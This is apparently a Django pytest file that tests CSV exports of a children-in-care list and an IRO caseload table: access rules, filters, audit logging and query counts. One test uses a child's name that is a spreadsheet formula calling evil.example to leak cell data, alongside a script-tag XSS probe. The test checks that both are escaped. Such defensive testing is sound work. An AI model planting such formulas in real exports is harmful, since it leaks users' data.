"""The children list and the IRO caseload table as CSV downloads: the rows the page would
show (every matching one, not a page), with its filters, for the users who may see the page
and only their children; labels not codes; no cell a spreadsheet would run as a formula; one
audit event per download naming the filters and the number of rows; streamed, in a fixed
number of queries whatever the number of rows."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from children import codes, exports
from children.models import CoverArrangement
from iro_service.models import AuditAction, AuditEvent
from tests.factories import make_child_in_care, make_iro

pytestmark = pytest.mark.django_db

LIST_CSV = reverse("children:list_csv")
CASELOADS_CSV = reverse("children:caseloads_csv")


def rows_of(response) -> list[list[str]]:
    """The CSV of a streamed download, checked to be one, as rows of text (header first)."""
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def exports_by(user) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=AuditAction.EXPORTED, actor=user).order_by("pk"))


@pytest.fixture
def caseloads(iro, other_iro):
    """Ada holds Katherine Rowanfield and Zoë Marsh; Ben holds Sam Hale."""
    start = timezone.localdate() - dt.timedelta(days=100)
    return {
        "katherine": make_child_in_care(
            iro=iro,
            first_name="Katherine",
            last_name="Rowanfield",
            local_reference="LA-0042",
            looked_after_on=start,
            legal_status="C2",
            placement_type="U4",
        ),
        "zoe": make_child_in_care(iro=iro, first_name="Zoë", last_name="Marsh", local_reference="LA-0043"),
        "sam": make_child_in_care(iro=other_iro, first_name="Sam", last_name="Hale", local_reference="LA-0044"),
    }


def test_the_children_list_csv_has_every_child_the_manager_sees_with_labels(client_for, manager, caseloads, today):
    rows = rows_of(client_for(manager).get(LIST_CSV))
    assert rows[0] == list(exports.CHILD_HEADER)
    by_reference = {row[0]: row for row in rows[1:]}
    assert sorted(by_reference) == ["LA-0042", "LA-0043", "LA-0044"]
    katherine = caseloads["katherine"]
    assert by_reference["LA-0042"] == [
        "LA-0042",
        "Katherine",
        "Rowanfield",
        "",
        str(katherine.age_on(today)),
        "Looked after",
        codes.LegalStatus("C2").label,
        codes.PlacementType("U4").label,
        (today - dt.timedelta(days=100)).isoformat(),
        "Ada Okafor",
        "No",
    ]
    assert by_reference["LA-0043"][1] == "Zoë"  # UTF-8 throughout


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"q": "rowanfield katherine"}, ["LA-0042"]),
        ({"q": "zoe"}, ["LA-0043"]),
        ({"iro": "other"}, ["LA-0044"]),
        ({"status": "left_care"}, []),
        ({}, ["LA-0042", "LA-0043", "LA-0044"]),
    ],
)
def test_the_children_list_csv_keeps_the_filters(client_for, manager, other_iro, caseloads, query, expected):
    if query.get("iro") == "other":
        query = {"iro": other_iro.pk}
    rows = rows_of(client_for(manager).get(LIST_CSV, query))
    assert sorted(row[0] for row in rows[1:]) == expected


def test_an_iro_exports_only_their_own_caseload(client_for, iro, other_iro, caseloads):
    rows = rows_of(client_for(other_iro).get(LIST_CSV))
    assert [row[0] for row in rows[1:]] == ["LA-0044"]
    rows = rows_of(client_for(other_iro).get(LIST_CSV, {"q": "Katherine Rowanfield"}))
    assert rows[1:] == []


def test_an_iro_cannot_name_another_iro_in_the_filter_to_see_their_children(client_for, iro, other_iro, caseloads):
    """Ada is not a choice of Ben's IRO filter: the download refuses it and the list says why."""
    response = client_for(other_iro).get(LIST_CSV, {"iro": iro.pk})
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('children:list')}?iro={iro.pk}"
    assert exports_by(other_iro) == []


def test_invalid_filters_send_the_user_back_to_the_list_to_correct_them(client_for, manager, caseloads):
    response = client_for(manager).get(LIST_CSV, {"age_band": "not-a-band", "q": "x"})
    assert response.status_code == 302
    assert response["Location"] == reverse("children:list") + "?age_band=not-a-band&q=x"
    assert exports_by(manager) == []


@pytest.mark.parametrize("url", [LIST_CSV, CASELOADS_CSV])
@pytest.mark.parametrize("role", ["committee", "administrator"])
def test_the_committee_and_the_administrator_cannot_export(client_for, request, caseloads, url, role):
    user = request.getfixturevalue(role)
    assert client_for(user).get(url).status_code == 403
    assert exports_by(user) == []


@pytest.mark.parametrize("url", [LIST_CSV, CASELOADS_CSV])
def test_a_visitor_who_has_not_signed_in_is_sent_to_sign_in(client, caseloads, url):
    response = client.get(url)
    assert response.status_code == 302
    assert reverse("login") in response["Location"]
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORTED).exists()


def test_an_iro_cannot_export_the_caseload_table(client_for, iro, caseloads):
    assert client_for(iro).get(CASELOADS_CSV).status_code == 403
    assert exports_by(iro) == []


def test_a_name_that_is_a_formula_is_written_as_text_and_markup_as_it_is(client_for, iro):
    make_child_in_care(
        iro=iro,
        first_name='=HYPERLINK("https://evil.example/?"&A1,"Open")',
        last_name="<script>alert(1)</script>",
        preferred_name="@SUM(1+1)",
        local_reference="LA-0099",
    )
    (header, row) = rows_of(client_for(iro).get(LIST_CSV))
    assert row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'
    assert row[2] == "<script>alert(1)</script>"
    assert row[3] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_each_download_writes_one_event_with_the_filters_and_the_row_count(client_for, manager, caseloads):
    rows = rows_of(client_for(manager).get(LIST_CSV, {"q": "Katherine", "status": "in_care", "page": "3"}))
    (event,) = exports_by(manager)
    assert len(rows) - 1 == 1
    assert event.child_id is None
    assert event.path == LIST_CSV
    assert event.changes == {"filters": {"q": "Katherine", "status": "in_care"}, "rows": 1}
    assert event.summary == "Children list exported (CSV): 1 row"
    assert "child_ids" not in event.changes


def test_the_children_list_links_to_its_csv_with_the_filters(client_for, manager, caseloads):
    response = client_for(manager).get(reverse("children:list"), {"q": "Katherine"})
    assert f'href="{LIST_CSV}?q=Katherine"' in response.text
    assert "Download as CSV" in response.text


def test_the_caseload_csv_has_every_active_iro_with_their_caseload_and_cover(
    client_for, manager, iro, other_iro, caseloads, today
):
    CoverArrangement.objects.create(
        absent_iro=other_iro,
        covering_iro=iro,
        starts_on=today,
        ends_on=today + dt.timedelta(days=7),
        reason="Leave",
        arranged_by=manager,
    )
    rows = rows_of(client_for(manager).get(CASELOADS_CSV))
    assert rows[0] == list(exports.CASELOAD_HEADER)
    by_name = {row[0]: row for row in rows[1:]}
    until = f"{today + dt.timedelta(days=7):%-d %B %Y}"
    assert by_name["Ada Okafor"] == [
        "Ada Okafor",
        str(iro.iro_profile.team),
        "1.00",
        "50 to 70",
        "2",
        "0",
        "0",
        "2",
        "Under band",
        "",
        "Ben Harris",
    ]
    assert by_name["Ben Harris"][4:] == ["1", "0", "0", "1", "Under band", f"Ada Okafor until {until}", ""]
    (event,) = exports_by(manager)
    assert event.changes == {"filters": {}, "rows": 2}


def test_the_caseloads_page_links_to_its_csv(client_for, manager, caseloads):
    assert f'href="{CASELOADS_CSV}"' in client_for(manager).get(reverse("children:caseloads")).text


def test_the_rows_are_read_a_chunk_at_a_time(client_for, manager, iro, monkeypatch, django_assert_num_queries):
    """Ten children a chunk: one query for the children, fetched ten rows at a time (a
    server-side cursor on PostgreSQL), and the two prefetches for each of the three chunks."""
    monkeypatch.setattr(exports, "EXPORT_CHUNK", 10)
    for n in range(25):
        make_child_in_care(iro=iro, first_name=f"Child{n}", last_name="Test", local_reference=f"Q{n:04d}")
    client = client_for(manager)
    with django_assert_num_queries(6 + 1 + 2 * 3):
        assert _download(client, LIST_CSV) == 25


def _download(client, url) -> int:
    return len(rows_of(client.get(url))) - 1


@pytest.mark.parametrize("size", [3, 30])
def test_the_children_list_csv_takes_the_same_queries_at_any_size(
    client_for, manager, iro, size, django_assert_max_num_queries
):
    for n in range(size):
        make_child_in_care(iro=iro, first_name=f"Child{n}", last_name="Test", local_reference=f"Q{n:04d}")
    client = client_for(manager)
    # sign-in (session, user, permissions), the count, the audit insert, then the children and
    # their two prefetches for each chunk
    with django_assert_max_num_queries(9):
        assert _download(client, LIST_CSV) == size


@pytest.mark.parametrize("size", [2, 20])
def test_the_caseload_csv_takes_the_same_queries_at_any_size(
    client_for, manager, team, size, django_assert_max_num_queries
):
    for n in range(size):
        make_iro(username=f"extra{n}", team=team)
    client = client_for(manager)
    with django_assert_max_num_queries(9):
        assert _download(client, CASELOADS_CSV) == size
